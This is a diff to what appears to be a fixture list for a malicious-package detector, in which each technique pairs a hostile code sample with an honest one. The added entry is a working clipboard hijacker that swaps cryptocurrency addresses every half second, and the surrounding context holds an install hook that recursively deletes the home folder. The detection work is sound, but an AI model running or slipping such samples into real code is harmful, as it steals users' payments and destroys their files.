@@ -273,6 +273,16 @@ export const techniques: readonly Technique[] = [
       exports.isLoggedIn = () => /session=/.test(document.cookie)`),
   },
   {
+    name: 'a payment address in the clipboard is exchanged',
+    rule: 'code/swaps-clipboard',
+    hostile: main(`
+      const clipboard = require('clipboardy')
+      setInterval(() => { if (/^0x[0-9a-f]{40}$/.test(clipboard.readSync())) clipboard.writeSync('0x' + 'a1'.repeat(20)) }, 500)`),
+    honest: main(`
+      const clipboard = require('clipboardy')
+      exports.copy = (text) => clipboard.writeSync(text)`),
+  },
+  {
     name: 'a home folder is deleted',
     rule: 'code/deletes',
     hostile: install(`const fs = require('fs'); fs.rmSync(require('os').homedir(), { recursive: true, force: true })`),
